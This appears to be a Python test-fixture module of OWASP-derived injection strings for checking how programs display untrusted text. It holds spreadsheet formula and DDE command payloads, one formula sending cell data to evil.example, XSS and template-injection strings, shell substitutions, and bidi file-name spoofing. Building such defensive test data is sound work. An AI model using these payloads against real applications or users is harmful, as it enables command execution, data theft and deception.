"""Texts that attack the programs which show them. Each is marked, so that what runs can be told from what stands there.

Sources: OWASP, "CSV Injection", "XSS Filter Evasion Cheat Sheet", "Server Side Template Injection".
"""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "'=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</title><img src=x onerror=alert(3)>",
    "<svg/onload=alert(4)>",
    '"><a href="javascript:alert(5)">x</a>',
    "<iframe src=http://evil.example></iframe>",
    "<!--<script>",
    "]]><b>",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "' onmouseover='alert(6)",
    "<style>*{display:none}</style>",
    "javascript:alert(7)",
    "data:text/html,<script>alert(8)</script>",
    "%s %n {0} {name} \\N{BULLET} $(id) `id`",
)
UNSEEN = (
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e",
    "\x00\x07\x1b[31mred\x1b[0m",
    "line\u2028separator\u2029",
    "\ud83d\ude00 a\u0301\u0301\u0301\u0301\u0301\u0301".encode("utf-16", "surrogatepass").decode("utf-16"),
    "*bold* _it_ [x](javascript:alert(9)) ![x](http://evil.example/x.png) | a | b |",
)
ATTACKS = (*FORMULAS, *MARKUP, *UNSEEN)
# Many at once, for the few texts that a study shows everywhere.
POLYGLOT = (
    "=1+1 </title></script><script>alert(13)</script><svg/onload=alert(14)> "
    "{{7*7}} [x](javascript:alert(15)) | \u202e\"'"
)
# As names of columns, speakers and files, which the study shows everywhere.
NAMES = (
    "=1+1",
    "<img src=x onerror=alert(10)>",
    "</script><script>alert(11)</script>",
    "@SUM(1) {{7*7}}",
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe",
    "javascript:alert(12)",
    '-1+1 "quoted" & <b>',
)
